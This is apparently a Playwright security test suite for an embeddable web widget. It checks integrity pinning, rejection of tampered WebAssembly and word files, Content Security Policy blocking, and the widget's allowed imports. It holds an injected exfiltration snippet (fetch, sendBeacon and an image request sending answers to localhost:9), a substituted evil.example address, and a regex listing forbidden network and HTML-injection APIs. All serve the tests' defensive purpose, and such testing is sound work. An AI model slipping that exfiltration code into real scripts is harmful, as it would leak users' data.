// Tampered files of the widget, and the capabilities of its module.

import { createHash } from "node:crypto";
import { readFileSync, readdirSync } from "node:fs";

import { expect, test } from "@playwright/test";

import { WORDS, organization } from "./steps/content.js";
import { LEANING_RESULT, keep } from "./steps/drafts.js";
import { button, heading } from "./steps/flow.js";
import { openAt } from "./steps/full.js";
import { SCRIPT, complaints, element, openHost, ready } from "./steps/host.js";

/** @typedef {import("@playwright/test").Page} Page */

// Requests may be pending when a test ends.
test.afterEach(({ page }) => page.unrouteAll({ behavior: "wait" }));

const { missing: MISSING, retry: RETRY } = WORDS.ui.later;

const FALLBACK = "<p>The questions on paper</p>";

/** @param {string} integrity */
const pinned = (integrity) =>
  `<script type="module" src="/widget/support-fit.js" integrity="${integrity}"></script>
  <support-fit loading="eager">${FALLBACK}</support-fit>`;

test("A page that pins the loader by its digest runs only that loader @threat-integrity", async ({
  page,
}) => {
  const digest = (/** @type {string | Buffer} */ data) =>
    `sha384-${createHash("sha384").update(data).digest("base64")}`;

  await test.step("another loader does not run, and the fallback content stays", async () => {
    const found = complaints(page);
    await openHost(page, pinned(digest("another loader")));
    await expect(page.getByText("The questions on paper")).toBeVisible();
    await expect.poll(() => found.join()).toMatch(/integrity/i);
    expect(await page.evaluate(() => customElements.get("support-fit"))).toBeUndefined();
  });

  await test.step("the loader with the digest runs", async () => {
    const loader = await (await page.request.get("/widget/support-fit.js")).body();
    await openHost(page, pinned(digest(loader)));
    await ready(page);
  });
});

/**
 * Changes a file before it reaches the page.
 *
 * @param {Page} page
 * @param {string} pattern
 * @param {(body: Buffer) => Buffer | string} change
 * @returns Stops changing it.
 */
async function tamper(page, pattern, change) {
  await page.route(pattern, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: change(await response.body()) });
  });
  // The file may be requested more than once.
  return () => page.unrouteAll({ behavior: "wait" });
}

/**
 * Files that load after the first screen, and ways to tamper with them.
 *
 * @type {Record<string, { pattern: string, change: (body: Buffer) => Buffer | string }>}
 */
const LATER = {
  "a module that is cut short": {
    pattern: "**/support-fit-later-*.wasm",
    change: (body) => body.subarray(0, body.length / 2),
  },
  "a module with changed bytes": {
    pattern: "**/support-fit-later-*.wasm",
    change: (body) => {
      const middle = Math.floor(body.length / 2);
      return Buffer.from(body).fill(0xff, middle, middle + 64);
    },
  },
  "a module that is HTML": {
    pattern: "**/support-fit-later-*.wasm",
    change: () => "<!doctype html>",
  },
  "words of another build": {
    pattern: "**/words-later-*.txt",
    change: (body) => `0${body.toString().slice(1)}`,
  },
  "words that are cut short": {
    pattern: "**/words-later-*.txt",
    change: (body) => body.subarray(0, body.length / 2),
  },
  "words with an extra line": {
    pattern: "**/words-later-*.txt",
    change: (body) => `${body}\nmore`,
  },
};

test("A changed module or word file is not used, and the result can be requested again @threat-mixed-builds", async ({
  page,
}) => {
  await keep(page, LEANING_RESULT);
  for (const [what, { pattern, change }] of Object.entries(LATER)) {
    await test.step(what, async () => {
      const repair = await tamper(page, pattern, change);
      await page.goto("/widget/");
      await expect(page.getByText(MISSING).first()).toBeVisible();
      await expect(element(page)).toHaveJSProperty("status", "ready");
      await repair();
      await button(page, RETRY).first().click();
      await expect(heading(page, "Leaning toward co-managed IT")).toBeVisible();
    });
  }
});

// More rejected names: `tests/javascript/words.test.js`.
test("A word file that names an address as the next file loads nothing @threat-word-files", async ({
  page,
}) => {
  /** @type {string[]} */
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await tamper(page, "**/words-en-*.txt", (body) =>
    body.toString().replace(/words-later-[^\n]*/, "https://evil.example/words.txt"),
  );
  await keep(page, LEANING_RESULT);
  await page.goto("/widget/");
  await expect(page.getByText(MISSING).first()).toBeVisible();
  expect(asked.filter((url) => url.includes("evil"))).toEqual([]);
});

test("A page whose policy allows only the widget blocks what a changed widget sends @threat-policy", async ({
  page,
}) => {
  /** @type {string[]} */
  const asked = [];
  page.on("requestfinished", (request) => asked.push(request.url()));
  await tamper(
    page,
    "**/assets/support-fit-*.js",
    (body) =>
      `${body};fetch("http://localhost:9/?answers").catch(()=>{});navigator.sendBeacon("http://localhost:9/?answers");new Image().src="http://localhost:9/?answers"`,
  );
  const found = complaints(page);
  await openHost(page, `<support-fit loading="eager"></support-fit>${SCRIPT}`);
  await ready(page);
  await expect
    .poll(() => found.filter((text) => /Content Security Policy/i.test(text)).length)
    .toBeGreaterThan(1);
  expect(asked.filter((url) => url.includes(":9"))).toEqual([]);
});

/**
 * Code that no import may contain: code that sends, opens an address, creates HTML or a script from a string, stores
 * anything outside the draft, or requests access to a device.
 */
const FORBIDDEN = new RegExp(
  [
    ...["fetch", "XMLHttp", "WebSocket", "EventSource", "sendBeacon", "RTC", "WebTransport"],
    ...["importScripts", "import\\(", "Worker", "eval", "Function\\(", "setInterval"],
    ...[
      "innerHTML",
      "outerHTML",
      "insertAdjacent",
      "setHTML",
      "parseFromString",
      "ContextualFragment",
    ],
    ...["document\\.write", "srcdoc", "cookie", "indexedDB", "sessionStorage", "caches"],
    ...["postMessage", "BroadcastChannel", "MessageChannel", "dispatchEvent"],
    ...[
      "open\\(",
      "submit",
      "requestSubmit",
      "\\.(assign|replace|reload|navigate|pushState|src|action)\\b",
    ],
    ...["\\.(hash|search|pathname|host|location)\\s*=[^=]", "readText", "clipboard\\.read"],
    ...[
      "credentials",
      "geolocation",
      "mediaDevices",
      "getUserMedia",
      "Notification",
      "serviceWorker",
    ],
    ...["bluetooth", "usb", "serial", "\\bhid\\b", "showOpenFilePicker", "showSaveFilePicker"],
  ].join("|"),
);

const ASSETS = new URL("../../dist/assets/", import.meta.url);

/**
 * What the modules of the widget import, by module, without the digests that wasm-bindgen adds to names.
 *
 * @returns {string}
 */
function imports() {
  // Visitors do not load the studio.
  const modules = readdirSync(ASSETS).filter(
    (name) => name.endsWith(".wasm") && !name.startsWith("studio-"),
  );
  const lists = modules.map((file) => {
    const module = new WebAssembly.Module(readFileSync(new URL(file, ASSETS)));
    /** @type {Map<string, number>} */
    const counts = new Map();
    const all = WebAssembly.Module.imports(module);
    for (const { kind, name } of all) {
      const short = name.replace(/^(__wbg_|__wbindgen_)/, "").replace(/_[0-9a-f]{16}$/, "");
      const line = kind === "function" ? short : `${short} (${kind})`;
      counts.set(line, (counts.get(line) ?? 0) + 1);
    }
    const lines = [...counts].map(([line, n]) => (n > 1 ? `${line} × ${n}` : line)).sort();
    return [`${file.replace(/-\w+\.wasm$/, "")}: ${all.length}`, ...lines].join("\n  ");
  });
  // By the name of the module: the digest after it changes with every build.
  return `${lists.sort().join("\n\n")}\n`;
}

// A new import is one more thing that a changed crate could do. Read its code in `target/xtask/wasm/support-fit_bg.js`, and
// then run `cargo xtask e2e tampered.spec.js --update-snapshots`.
test("The WebAssembly imports only listed functions, and none that sends, opens an address, or makes HTML or scripts from strings @threat-sending", async ({
  page,
}) => {
  expect.soft(imports()).toMatchSnapshot("imports.txt");
  await page.addInitScript(() => {
    /** @type {{ namespaces: string[], kinds: string[], sources: string[] }[]} */
    const given = [];
    Object.assign(window, { given });
    for (const name of /** @type {const} */ (["instantiate", "instantiateStreaming"])) {
      const method = /** @type {any} */ (WebAssembly)[name];
      /** @type {any} */ (WebAssembly)[name] = (
        /** @type {any} */ source,
        /** @type {any} */ object,
      ) => {
        const values = Object.values(object).flatMap((part) => Object.values(part));
        given.push({
          namespaces: Object.keys(object),
          kinds: [...new Set(values.map((value) => Object.prototype.toString.call(value)))],
          sources: values.filter((value) => typeof value === "function").map(String),
        });
        return method.call(WebAssembly, source, object);
      };
    }
  });
  await openAt(page, "result", organization("P2"));
  const [start, ...later] = await page.evaluate(
    () =>
      /** @type {{ namespaces: string[], kinds: string[], sources: string[] }[]} */ (
        /** @type {any} */ (window).given
      ),
  );
  expect(start?.sources.length).toBeGreaterThan(50);
  expect(start?.kinds.sort()).toEqual(["[object AsyncFunction]", "[object Function]"]);
  expect(start?.sources.filter((source) => FORBIDDEN.test(source))).toEqual([]);
  // The later module imports only exports of the start module.
  expect(later.map(({ namespaces }) => namespaces)).toEqual([["start"]]);
});
